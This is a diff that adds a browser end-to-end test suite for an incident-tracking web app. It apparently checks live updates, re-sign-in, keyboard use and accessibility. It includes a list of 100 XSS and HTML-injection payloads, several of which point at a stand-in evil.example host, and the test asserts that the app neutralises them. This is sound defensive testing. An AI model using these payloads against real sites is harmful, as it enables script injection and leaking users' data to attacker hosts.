@@ -1,0 +1,329 @@
+import {
+  afterAll,
+  afterEach,
+  beforeAll,
+  beforeEach,
+  describe,
+  expect,
+  setDefaultTimeout,
+  test,
+} from "bun:test";
+import { closeChromium, Tab } from "../support/browser/chromium.ts";
+import { type IncidentServer, useIncidentServer } from "../support/http/incident_server.ts";
+import { until } from "../support/process/until.ts";
+
+/** The pages in a real browser: with their script, live, by keyboard, and under attack. */
+
+setDefaultTimeout(120_000);
+
+let given: IncidentServer;
+useIncidentServer(
+  (all) => {
+    given = all;
+  },
+  { rateGenerate: 100_000, pluginConversation: "channel", pluginDocument: "markdown" },
+);
+
+let tab: Tab;
+let id: number;
+let path: string;
+beforeAll(() => {
+  Object.assign(given.server.issuer, {
+    user: "root@example.com",
+    claims: { email_verified: true, groups: ["admin"] },
+  });
+});
+afterAll(closeChromium);
+beforeEach(async () => {
+  tab = await Tab.open();
+  await open("/app");
+  ({ id } = await given.reported("Broken"));
+  path = `/app/incidents/${id}`;
+});
+afterEach(() => {
+  const refusals = tab.refusals.filter((refusal) => refusal.startsWith(given.server.url));
+  tab.close();
+  expect(refusals).toEqual([]);
+});
+
+const open = async (at: string) => {
+  await tab.goto(`${given.server.url}${at}`);
+  await until("the page", () =>
+    tab.ask<boolean>("document.readyState === 'complete' && !!document.querySelector('h1')"),
+  );
+};
+const isLive = () => until("a live page", () => tab.ask<boolean>("!!document.querySelector('.live.on')"));
+const note = (text: string) => given.member.call("POST", `/incidents/${id}/events`, { description: text });
+const notes = () => given.notesOf(id);
+
+describe("a page that is open", () => {
+  test("shows what others write, and keeps what the reader is writing", async () => {
+    await open(path);
+    await isLive();
+    await tab.click("#text");
+    await tab.type("Half a thou");
+    await note("From a terminal");
+    await tab.says("From a terminal");
+    await tab.type("ght");
+    expect(await tab.ask<string>("document.querySelector('#text').value")).toBe("Half a thought");
+    await tab.click(".say button");
+    await until("the note", async () => (await notes()).includes("Half a thought"));
+    await until("an empty field", () => tab.ask<boolean>("document.querySelector('#text').value === ''"));
+    await tab.says("Half a thought");
+  });
+
+  test("the board shows a new incident, and a hidden tab says so in its title", async () => {
+    await open("/app");
+    await isLive();
+    const { name } = await given.reported("Also broken");
+    await tab.says(name);
+  });
+
+  test("says that it is not live, and that somebody has to sign in again", async () => {
+    await open(path);
+    await isLive();
+    await tab.click("#text");
+    await tab.type("Not lost");
+    // As by another tab.
+    await tab.ask(
+      `fetch("/app/sign_out", { method: "POST", body: new URLSearchParams({ csrf: document.querySelector("[name=csrf]").value }) }).then(() => 1)`,
+    );
+    await tab.says("Sign in again");
+    expect(await tab.ask<string>("document.querySelector('#text').value")).toBe("Not lost");
+    await tab.click(".again");
+    await isLive();
+    expect(await tab.text()).not.toContain("Sign in again");
+    // Its form has the token of the new session.
+    await tab.ask("document.querySelector('.say button').click()");
+    await until("the note", async () => (await notes()).includes("Not lost"));
+  });
+});
+
+describe("by keyboard", () => {
+  test("an incident is found, opened, written to and made stable", async () => {
+    await open("/app");
+    await tab.press("Tab");
+    expect(await tab.focused()).toContain("Skip to the content");
+    await tab.type("j");
+    await tab.press("Enter");
+    await until("an incident", async () => (await tab.address()).includes("/app/incidents/"));
+    await isLive();
+    await tab.type("n");
+    await tab.type("By keyboard");
+    await tab.press("Tab");
+    expect(await tab.focused()).toBe("Note");
+    await tab.press("Enter");
+    await tab.says("By keyboard");
+    await tab.ask("document.querySelector('form[action$=\"/stable\"] button').focus()");
+    await tab.press("Enter");
+    await until("a stable incident", () => tab.ask<boolean>("!!document.querySelector('.status.stable')"));
+    await tab.type("/");
+    await tab.type("keyboard");
+    await tab.press("Enter");
+    await tab.says("Search: keyboard");
+  });
+});
+
+test("every page is accessible, light and dark, on a desktop and a phone", async () => {
+  const long = `ﻣﺮﺣﺒﺎ שלום ${"Donaudampfschifffahrtsgesellschaftskapitän".repeat(6)}`;
+  await given.member.call("POST", `/incidents/${id}/status_reports`, {
+    conditions: long,
+    actions: "b",
+    needs: "c",
+  });
+  await note(long);
+  await given.member.call("POST", "/tasks/", {
+    incident_id: id,
+    description: long,
+    assignees: ["carol@example.com"],
+  });
+  const [found] = (await given.admin.call("GET", `/documents/?incident_id=${id}`)).body.items;
+  const findings = [];
+  for (const [name, at] of [
+    ["board", "/app"],
+    ["board-empty", "/app?type=999999"],
+    ["incident", path],
+    ["incident-messages", `${path}?show=messages`],
+    ["incident-edit", `${path}/edit`],
+    ["incident-affected", `${path}/affected`],
+    ["status-report", `${path}/status-report`],
+    ["report", "/app/report"],
+    ["search", "/app/search?q=broken"],
+    ["document", `/app/documents/${found.id}`],
+    ["document-edit", `/app/documents/${found.id}/edit`],
+    ["no-incident", "/app/incidents/987654"],
+    ["signed-out", "/app/signed_out"],
+  ] as const) {
+    await open(at);
+    findings.push(...(await tab.inspect(name)));
+  }
+  await open(`${path}/edit`);
+  await tab.fill("#field-impact_start", "never");
+  await tab.click(".fields .primary");
+  await until("the error", () => tab.ask<boolean>("!!document.querySelector('[role=alert]')"));
+  findings.push(...(await tab.inspect("invalid")));
+  expect(findings).toEqual([]);
+});
+
+/** What runs a script, breaks out of an attribute, or asks another origin, in some context of HTML. */
+const payloads = [
+  "<script>hit()</script>",
+  "<img src=x onerror=hit()>",
+  "<svg onload=hit()>",
+  '"><script>hit()</script>',
+  "'><img src=x onerror=hit()>",
+  '" onfocus=hit() autofocus x="',
+  "' onmouseover=hit() x='",
+  "</textarea><script>hit()</script>",
+  "</title><script>hit()</script>",
+  "</option></select><script>hit()</script>",
+  "</style><script>hit()</script>",
+  "</script><script>hit()</script>",
+  "<!--><script>hit()</script>-->",
+  "<details open ontoggle=hit()>",
+  "<body onload=hit()>",
+  '<iframe srcdoc="<script>parent.hit()</script>">',
+  '<iframe src="javascript:parent.hit()">',
+  '<object data="javascript:hit()">',
+  '<embed src="https://evil.example/x">',
+  '<base href="https://evil.example/">',
+  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
+  '<link rel=stylesheet href="https://evil.example/x.css">',
+  "<form action=https://evil.example><button>x</button></form>",
+  '<a href="javascript:hit()">x</a>',
+  "[x](javascript:hit())",
+  "[x](JaVaScRiPt:hit())",
+  "[x](java\tscript:hit())",
+  "[x](&#106;avascript:hit())",
+  "![x](https://evil.example/x.png)",
+  '![x](x"onerror="hit())',
+  '<https://evil.example/"onclick="hit()>',
+  'https://evil.example/"onclick=hit()',
+  "https://evil.example/'><script>hit()</script>",
+  "javascript:hit()",
+  "data:text/html,<script>hit()</script>",
+  "{{constructor.constructor('hit()')()}}",
+  "$" + "{hit()}",
+  "<%= hit() %>",
+  "&lt;script&gt;hit()&lt;/script&gt;",
+  "&#60;script&#62;hit()&#60;/script&#62;",
+  "\u003cscript\u003ehit()\u003c/script\u003e",
+  "<scr\u0000ipt>hit()</scr\u0000ipt>".replaceAll("\u0000", ""),
+  "<ScRiPt>hit()</ScRiPt>",
+  "<script\n>hit()</script\n>",
+  "<script/x>hit()</script>",
+  "<<script>hit()//<</script>",
+  "<input onfocus=hit() autofocus>",
+  "<select onfocus=hit() autofocus>",
+  "<video><source onerror=hit()>",
+  "<audio src=x onerror=hit()>",
+  "<marquee onstart=hit()>",
+  "<math><mtext></form><form><mglyph><style></math><img src onerror=hit()>",
+  '<noscript><p title="</noscript><img src=x onerror=hit()>">',
+  "<template><script>hit()</script></template>",
+  "<svg><script>hit()</script></svg>",
+  "<svg><animate onbegin=hit() attributeName=x dur=1s>",
+  '<svg><a xlink:href="javascript:hit()"><text x=20 y=20>x</text></a></svg>',
+  "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>hit()</script></svg>#x\">",
+  "<style>@import 'https://evil.example/x.css'</style>",
+  '<p style="background:url(https://evil.example/x)">',
+  '<div style="behavior:url(x)">',
+  '<table background="https://evil.example/x">',
+  "<isindex action=javascript:hit() type=submit>",
+  "<button formaction=javascript:hit()>x</button>",
+  "<keygen autofocus onfocus=hit()>",
+  "<dialog open onclose=hit()><form method=dialog><button>x</button></form></dialog>",
+  "<div popover id=x onbeforetoggle=hit()>",
+  "<x onclick=hit() tabindex=0 id=x>",
+  "<x contenteditable onblur=hit()>",
+  "`<img src=x onerror=hit()>`",
+  "```\n</code></pre><script>hit()</script>\n```",
+  "> <script>hit()</script>",
+  "- [ ] <script>hit()</script>",
+  "| <script>hit()</script> |\n|---|\n| x |",
+  "[ref]: javascript:hit()\n\n[ref]",
+  "[x]: <javascript:hit()>\n\n![x]",
+  '<a href="vbscript:hit()">x</a>',
+  '<a href="data:text/html,hit()" target=_blank>x</a>',
+  "\u2028<script>hit()</script>",
+  "\u00ad<script>hit()</script>",
+  "+ADw-script+AD4-hit()+ADw-/script+AD4-",
+  "<a id=hit name=hit>clobbered</a>",
+  "<form id=body><input name=dataset></form>",
+  "<img name=querySelector>",
+  "\r\n\r\n<script>hit()</script>",
+  "event: event\ndata: <script>hit()</script>\n\n",
+  "*/<script>hit()</script>/*",
+  "]]><script>hit()</script>",
+  '<?xml version="1.0"?><script>hit()</script>',
+  '<xss style="animation-name:x" onanimationstart=hit()>',
+  '<a href="/app/sign_out">x</a>',
+  '<button form=say formaction="https://evil.example">x</button>',
+  "<input form=say name=text value=x>",
+  "<textarea form=say name=csrf>x</textarea>",
+  '<link rel=prefetch href="https://evil.example/x">',
+  '<link rel=preload as=script href="https://evil.example/x">',
+  '<img srcset="https://evil.example/x 1x">',
+  "<script type=module>hit()</script>",
+  "<script type=importmap>{}</script>",
+  '<portal src="https://evil.example">',
+];
+
+test("a hundred attacks in every text run nothing, and ask nobody else", async () => {
+  expect(payloads).toHaveLength(100);
+  const all = payloads.join("\n");
+  // In parts: a line has 500 characters at most.
+  const lines = payloads.filter((payload) => !/[\p{Cc}\p{Zl}]/u.test(payload)).slice(0, 100);
+  const ids: number[] = [];
+  for (let at = 0; at < lines.length; at += 8) {
+    const title = lines
+      .slice(at, at + 8)
+      .join(" ")
+      .slice(0, 450);
+    ids.push((await given.reported(title, { description: all })).id);
+  }
+  const [first] = ids;
+  const post = (to: string, body: object) => given.member.call("POST", to, body);
+  const at = `/incidents/${first}`;
+  const stored = [];
+  for (const payload of payloads) stored.push(await post(`${at}/events`, { description: payload }));
+  stored.push(
+    await post(`${at}/messages/`, { text: all }),
+    await post(`${at}/status_reports`, { conditions: all, actions: all, needs: all }),
+    await post("/tasks/", { incident_id: first, description: all, assignees: ["carol@example.com"] }),
+  );
+  // A few have characters that no text may have.
+  expect(stored.filter(({ http }) => http === 201).length).toBeGreaterThan(95);
+  const [found] = (await given.admin.call("GET", `/documents/?incident_id=${first}`)).body.items;
+  await given.admin.call("PUT", `/documents/${found.id}/content`, { text: all, version: null });
+  const watch = `window.hits = 0; window.hit = () => { window.hits += 1; }`;
+  const places = [
+    "/app",
+    ...ids.map((one) => `/app/incidents/${one}`),
+    ...["messages", "reports", "notes", "everything"].map((view) => `/app/incidents/${first}?show=${view}`),
+    `/app/incidents/${first}/edit`,
+    `/app/incidents/${first}/close`,
+    `/app/documents/${found.id}`,
+    `/app/documents/${found.id}/edit`,
+    ...payloads.map((payload) => `/app/search?q=${encodeURIComponent(payload)}`).slice(0, 40),
+    ...payloads.map((payload) => `/app/report?title=${encodeURIComponent(payload)}`).slice(0, 40),
+  ];
+  await tab.beforeScripts(watch);
+  for (const place of places) {
+    await open(place);
+    const seen = await tab.ask<{ hits: number; strangers: string[]; odd: string[] }>(`({
+      hits: window.hits,
+      strangers: performance.getEntriesByType("resource").map(({ name }) => name).filter((name) => !name.startsWith(location.origin)),
+      odd: [...document.querySelectorAll("script, iframe, object, embed, base, svg, img, style, link, meta[http-equiv], [srcdoc], template")]
+        .filter((one) => !(one.matches("head > link, head > script") && new URL(one.href ?? one.src).origin === location.origin))
+        .map((one) => one.outerHTML),
+    })`);
+    expect([place, seen]).toEqual([place, { hits: 0, strangers: [], odd: [] }]);
+  }
+  // As a live change, which the script inserts.
+  await open(`/app/incidents/${first}`);
+  await isLive();
+  await given.member.call("POST", `${at}/events`, { description: `last ${payloads[1]}` });
+  await tab.says("last <img");
+  expect(await tab.ask<number>("window.hits")).toBe(0);
+});
